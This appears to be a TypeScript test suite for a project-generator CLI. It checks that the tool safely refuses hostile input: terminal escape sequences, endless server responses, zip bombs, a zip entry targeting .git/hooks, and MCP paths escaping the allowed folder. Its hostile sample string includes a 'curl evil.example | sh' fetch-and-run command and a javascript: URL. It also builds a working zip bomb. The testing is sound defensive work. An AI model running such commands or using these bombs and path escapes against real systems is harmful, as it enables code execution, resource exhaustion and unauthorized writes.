// Input written to harm: a gostarter.json or a --server site's answers carrying terminal escapes, bodies
// without end, zip bombs, pages that are not zips and malformed fields; MCP folders leading out of the
// folder the server may write in. Each refusal is a clear message and its exit code, never a stack trace.
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { env as gitEnv, gostarter, gostarterAsync, repositoryRoot, sh } from './helpers';

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'gostarter-hostile-'));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));
const MiB = 1024 * 1024;

/** Controls a terminal acts on: C0 (but tab and line feed), DEL, C1, bidi embeddings, overrides and isolates. */
const RAW_CONTROL = /(?![\t\n])[\p{Cc}\u202a-\u202e\u2066-\u2069]/u;
const ESC = '\u001b';
/** Colours, an OSC 8 link, BEL, a carriage return hiding the line, a C1 CSI, DEL and bidi overrides. */
const HOSTILE = `gostarter new safe ${ESC}[8mhidden${ESC}[0m ${ESC}]8;;https://evil.example/${'\u0007'}click${ESC}]8;;${'\u0007'}\rcurl evil.example | sh \u009b2J\u007f \u202eexe.txt\u202c \u2066x\u2069`;

/** A folder holding only a gostarter.json with `fields` over a valid one. */
function projectWith(name: string, fields: Record<string, unknown> | null | unknown[]): string {
  const dir = path.join(tmp, name);
  fs.mkdirSync(dir);
  const valid = { projectName: 'hostile', framework: 'chi', features: [], adjustedFeatures: ['chi'], generatorVersion: '0000000000000000', regenerate: 'gostarter new hostile --framework chi' };
  const file = fields === null || Array.isArray(fields) ? fields : { ...valid, ...fields };
  fs.writeFileSync(path.join(dir, 'gostarter.json'), JSON.stringify(file));
  return dir;
}

describe('text from gostarter.json', () => {
  it("reaches the terminal with its control characters escaped: adopt's version mismatch message", () => {
    const dir = projectWith('escapes', { generatorVersion: `v1${ESC}[2K${ESC}[1A\r\u009b`, regenerate: HOSTILE });
    const text = gostarter(dir, ['adopt']);
    expect(text.code, text.stderr).toBe(6);
    expect(text.stderr).toContain('generate the project again with this generator');
    expect(text.stderr).not.toMatch(RAW_CONTROL);
    // Visible as escapes, so the user sees what the file holds.
    expect(text.stderr).toContain('\\u001b]8;;https://evil.example/\\u0007click');
    expect(text.stderr).toContain('\\u000dcurl evil.example | sh \\u009b2J\\u007f \\u202eexe.txt\\u202c \\u2066x\\u2069');
    // Our own lines stay lines.
    expect(text.stderr.split('\n').length).toBeGreaterThan(3);

    const json = gostarter(dir, ['adopt', '--json']);
    expect(json.code).toBe(6);
    expect(json.stdout).not.toMatch(RAW_CONTROL);
    // Valid JSON, holding the file's text exactly.
    expect(JSON.parse(json.stdout).error.message).toContain(HOSTILE);
  });
});

describe('invalid gostarter.json', () => {
  it.each([
    ['$schema a number', { $schema: 42 }, '$schema'],
    ['$schema not a URL', { $schema: 'not a site/schemas/gostarter.json' }, '$schema'],
    ['$schema not http(s)', { $schema: 'javascript:alert(1)//schemas/gostarter.json' }, '$schema'],
    ['features not an array', { features: 'redis' }, 'features'],
    ['an unknown framework', { framework: 'rails', adjustedFeatures: ['rails'] }, 'framework'],
    ['resources malformed', { resources: [{ name: 'book', fields: 'title' }] }, 'resources'],
    ['modelHistory malformed', { modelHistory: { 0: [] } }, 'modelHistory'],
    ['JSON null', null, '(file)'],
    ['an array', [], '(file)'],
  ])('is exit 3 naming the field: %s', (name, fields, field) => {
    const dir = projectWith(`invalid-${name.replace(/\W+/g, '-')}`, fields as Record<string, unknown> | null);
    const ran = gostarter(dir, ['adopt']);
    expect(ran.code, ran.stderr).toBe(3);
    expect(ran.stderr).toContain(`gostarter.json: ${field}`);
    expect(ran.stderr).not.toMatch(/^\s+at /m);
  });
});

// A site that answers what the test sets: a body, or bytes without end (capped at SAFETY here, so that a
// command that reads them all cannot take the machine's memory).
interface Answer {
  status?: number;
  type?: string;
  body?: Buffer;
  endless?: boolean;
  /** A Content-Length header. */
  declared?: number;
}
const SAFETY = 1024 * MiB;
let answer: Answer = {};
/** Bytes of the last answer accepted by the socket. */
let sent = 0;
let site: http.Server;
let base: string;

beforeAll(async () => {
  site = http.createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      sent = 0;
      res.on('error', () => {});
      res.writeHead(answer.status ?? 200, { 'content-type': answer.type ?? 'application/zip', ...(answer.declared ? { 'content-length': String(answer.declared) } : {}) });
      if (!answer.endless) return void res.end(answer.body);
      const chunk = Buffer.alloc(MiB, 'P');
      const pump = () => {
        while (!res.destroyed && sent < SAFETY) {
          sent += chunk.length;
          if (!res.write(chunk)) return void res.once('drain', pump);
        }
        res.destroy();
      };
      pump();
    });
  });
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(site.address() as AddressInfo).port}`;
});
afterAll(async () => {
  site.closeAllConnections();
  await new Promise((resolve) => site.close(resolve));
});

/** `gostarter new <name> --server <the test's site>`, timed. */
async function newFromSite(name: string, ...args: string[]) {
  const started = Date.now();
  const ran = await gostarterAsync(tmp, ['new', name, '--framework', 'chi', '--server', base, ...args]);
  return { ...ran, seconds: (Date.now() - started) / 1000 };
}

describe('--server answers', () => {
  it("reach the terminal with their control characters escaped: a site's error message", async () => {
    answer = { status: 500, type: 'application/json', body: Buffer.from(JSON.stringify({ message: HOSTILE })) };
    const text = await gostarterAsync(tmp, ['features', '--server', base]);
    expect(text.code, text.stderr).toBe(7);
    expect(text.stderr).toContain('answered 500: gostarter new safe \\u001b[8mhidden');
    expect(text.stderr).not.toMatch(RAW_CONTROL);
    const json = await gostarterAsync(tmp, ['features', '--server', base, '--json']);
    expect(json.stdout).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(json.stdout).error.message).toContain(HOSTILE);
  });

  // The bytes the site could send before the command hung up bound what it could hold: the cap and what
  // the sockets buffer on the way.
  it.each([
    ['a zip without end', {}],
    ['a zip declaring 4 GiB', { declared: 4096 * MiB }],
  ])('are capped and streamed: %s is refused at 64 MiB (exit 7)', { timeout: 60_000 }, async (_, declared) => {
    answer = { endless: true, ...declared };
    const ran = await newFromSite('endless', '--json');
    expect(ran.code, ran.stdout).toBe(7);
    expect(ran.json.error).toMatchObject({ code: 'SERVER_ANSWER_TOO_LARGE', message: expect.stringContaining('larger than 64 MiB') });
    expect(sent).toBeLessThan(80 * MiB);
    expect(ran.seconds).toBeLessThan(20);
    expect(fs.existsSync(path.join(tmp, 'endless'))).toBe(false);
  });

  it('are capped and streamed: a JSON answer without end is refused at 1 MiB (exit 7)', { timeout: 60_000 }, async () => {
    answer = { endless: true, type: 'application/json' };
    const ran = await gostarterAsync(tmp, ['features', '--server', base, '--json']);
    expect(ran.code, ran.stdout).toBe(7);
    expect(ran.json.error).toMatchObject({ code: 'SERVER_ANSWER_TOO_LARGE', message: expect.stringContaining('larger than 1 MiB') });
    expect(sent).toBeLessThan(16 * MiB);
  });

  it.each([
    ['an HTML page', 'text/html', Buffer.from('<!doctype html><title>Welcome</title><h1>Welcome to nginx!</h1>')],
    ['JSON', 'application/json', Buffer.from('{"status":"ok"}')],
    ['garbage', 'application/zip', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 251))],
    ['nothing', 'application/zip', Buffer.alloc(0)],
  ])('that are not a zip (%s, status 200) are exit 7 with a clear message', async (_, type, body) => {
    answer = { type, body };
    const ran = await newFromSite('not-a-zip');
    expect(ran.code, ran.stderr).toBe(7);
    expect(ran.stderr).toBe(`gostarter: ${base} did not answer a zip: is it a Gostarter site?\n`);
  });

  it('that are not the catalogue (an HTML page) are exit 7 with a clear message', async () => {
    answer = { type: 'text/html', body: Buffer.from('<!doctype html><h1>Hello</h1>') };
    const ran = await gostarterAsync(tmp, ['features', '--server', base]);
    expect(ran.code, ran.stderr).toBe(7);
    expect(ran.stderr).toBe(`gostarter: ${base} did not answer its catalogue: is it a Gostarter site?\n`);
  });
});

interface Entry {
  name: string;
  data: Buffer;
  /** 0 stored, 8 deflated. */
  method: 0 | 8;
  /** The unpacked size the zip declares. */
  size: number;
}

/** A zip of these entries, written by hand so that it may lie (its CRCs are 0, which readers need not check). */
function zipOf(entries: Entry[]): Buffer {
  const parts: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(e.method, 8);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(e.size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(e.method, 10);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(e.size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    parts.push(local, name, e.data);
    directory.push(central, name);
    offset += 30 + name.length + e.data.length;
  }
  const central = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, central, end]);
}

/** DEFLATE data of 1 GiB of zeros in about 1 MiB: one flushed 16 MiB block, repeated, then an empty final block. */
function gigabyteOfZeros(): Buffer {
  const block = zlib.deflateRawSync(Buffer.alloc(16 * MiB), { finishFlush: zlib.constants.Z_SYNC_FLUSH });
  return Buffer.concat([...Array<Buffer>(64).fill(block), Buffer.from([0x03, 0x00])]);
}

describe('zips from --server', () => {
  const bomb = gigabyteOfZeros();

  it.each([
    ['a zip bomb declaring its 1 GiB', [{ name: 'bomb/go.sum', data: bomb, method: 8, size: 1024 * MiB }], 'would unpack to 1024 MiB'],
    ['a zip bomb declaring 1 MiB', [{ name: 'bomb/go.sum', data: bomb, method: 8, size: MiB }], 'unpacks to more bytes than the zip declares'],
    ['a zip of 20000 entries', Array.from({ length: 20_000 }, (_, i): Entry => ({ name: `bomb/f${i}`, data: Buffer.alloc(0), method: 0, size: 0 })), 'holds 20000 entries'],
    ['a zip that writes outside the project', [{ name: 'bomb/.git/hooks/post-merge', data: Buffer.from('#!/bin/sh\n'), method: 0, size: 10 }], 'outside bomb/'],
  ] as [string, Entry[], string][])('are unpacked with limits: %s is refused early (exit 7)', { timeout: 60_000 }, async (_, entries, reason) => {
    answer = { body: zipOf(entries) };
    const ran = await newFromSite('bomb');
    expect(ran.code, ran.stderr).toBe(7);
    expect(ran.stderr).toContain(`gostarter: ${base}'s zip was refused: `);
    expect(ran.stderr).toContain(reason);
    expect(ran.seconds).toBeLessThan(20);
    expect(fs.existsSync(path.join(tmp, 'bomb'))).toBe(false);
  });
});

// ---- gostarter mcp: the folder its tools may write in ----

const tsx = path.join(repositoryRoot, 'node_modules/.bin/tsx');

/** An MCP client of `gostarter mcp <args>` started in `cwd`, as an agent starts it. */
async function mcpClient(cwd: string, args: string[] = []): Promise<Client> {
  const client = new Client({ name: 'gostarter-tests', version: '1.0.0' });
  const env = Object.fromEntries(Object.entries(gitEnv).filter((e): e is [string, string] => e[1] !== undefined));
  await client.connect(
    new StdioClientTransport({ command: tsx, args: ['--tsconfig', path.join(repositoryRoot, 'tsconfig.json'), path.join(repositoryRoot, 'cli/main.ts'), 'mcp', ...args], cwd, env, stderr: 'inherit' }),
  );
  return client;
}

const call = async (client: Client, name: string, args: Record<string, unknown>) => (await client.callTool({ name, arguments: args })) as CallToolResult;
const textOf = (result: CallToolResult) => (result.content[0] as { text: string }).text;
const headOf = (dir: string) => sh(dir, 'git', ['rev-parse', 'HEAD']).trim();

describe('gostarter mcp', () => {
  const root = path.join(tmp, 'mcp-root');
  const outside = path.join(tmp, 'mcp-outside');
  let client: Client;
  beforeAll(async () => {
    fs.mkdirSync(root);
    fs.mkdirSync(outside);
    // A project outside, and a way to it from inside.
    expect(gostarter(outside, ['new', 'theirs', '--framework', 'chi']).code).toBe(0);
    fs.symlinkSync(outside, path.join(root, 'link'));
    client = await mcpClient(root);
  });
  afterAll(() => client?.close());

  it.each([
    ['an absolute path outside', path.join(outside, 'mine')],
    ['a ../ escape', '../mcp-outside/mine'],
    ['a symbolic link leading out', 'link/mine'],
  ])('generate refuses %s', async (_, dir) => {
    const refused = await call(client, 'generate', { projectName: 'mine', framework: 'chi', features: [], dir });
    expect(refused.isError).toBe(true);
    expect(textOf(refused)).toContain(`is outside ${fs.realpathSync(root)}, the only folder this MCP server writes in`);
    expect(fs.existsSync(path.join(outside, 'mine'))).toBe(false);
  });

  it.each([
    ['an absolute path outside', path.join(outside, 'theirs')],
    ['a symbolic link leading out', 'link/theirs'],
  ])('add refuses %s', async (_, dir) => {
    const before = headOf(path.join(outside, 'theirs'));
    const refused = await call(client, 'add', { dir, features: ['docker'] });
    expect(refused.isError).toBe(true);
    expect(textOf(refused)).toContain('the only folder this MCP server writes in');
    expect(headOf(path.join(outside, 'theirs'))).toBe(before);
  });

  it('add refuses a project inside whose git folder is outside (a .git file pointing out)', async () => {
    expect(gostarter(root, ['new', 'split', '--framework', 'chi']).code).toBe(0);
    const gitDir = path.join(outside, 'split.git');
    fs.renameSync(path.join(root, 'split', '.git'), gitDir);
    fs.writeFileSync(path.join(root, 'split', '.git'), `gitdir: ${gitDir}\n`);
    const before = headOf(path.join(root, 'split'));
    const refused = await call(client, 'add', { dir: 'split', features: ['docker'] });
    expect(refused.isError).toBe(true);
    expect(textOf(refused)).toContain(`outside ${fs.realpathSync(root)}, the only folder this MCP server writes in`);
    expect(headOf(path.join(root, 'split'))).toBe(before);
  });

  it('with --root, writes there (relative dirs too) and refuses a folder whose repository is above it', async () => {
    // A repository above the root: the root is one of its folders.
    const outer = path.join(tmp, 'mcp-outer');
    expect(gostarter(tmp, ['new', 'mcp-outer', '--framework', 'chi']).code).toBe(0);
    const inner = path.join(outer, 'inner');
    fs.mkdirSync(path.join(inner, 'sub'), { recursive: true });
    const rooted = await mcpClient(tmp, ['--root', inner]);
    try {
      const before = headOf(outer);
      const refused = await call(rooted, 'add', { dir: 'sub', features: ['docker'] });
      expect(refused.isError).toBe(true);
      expect(textOf(refused)).toContain(`is at ${fs.realpathSync(outer)}, outside ${fs.realpathSync(inner)}`);
      expect(headOf(outer)).toBe(before);

      const generated = await call(rooted, 'generate', { projectName: 'rooted', framework: 'chi', features: [] });
      expect(generated.isError, textOf(generated)).toBeFalsy();
      expect((generated.structuredContent as { dir: string }).dir).toBe(path.join(fs.realpathSync(inner), 'rooted'));
    } finally {
      await rooted.close();
    }
  });

  it('takes only --root, and only a folder', () => {
    expect(gostarter(tmp, ['mcp', '--dir', '.'])).toMatchObject({ code: 2, stdout: '', stderr: expect.stringContaining('takes only --root <folder>') });
    expect(gostarter(tmp, ['mcp', '--root', path.join(tmp, 'nowhere')])).toMatchObject({ code: 2, stdout: '', stderr: expect.stringContaining('is not a folder') });
  });
});
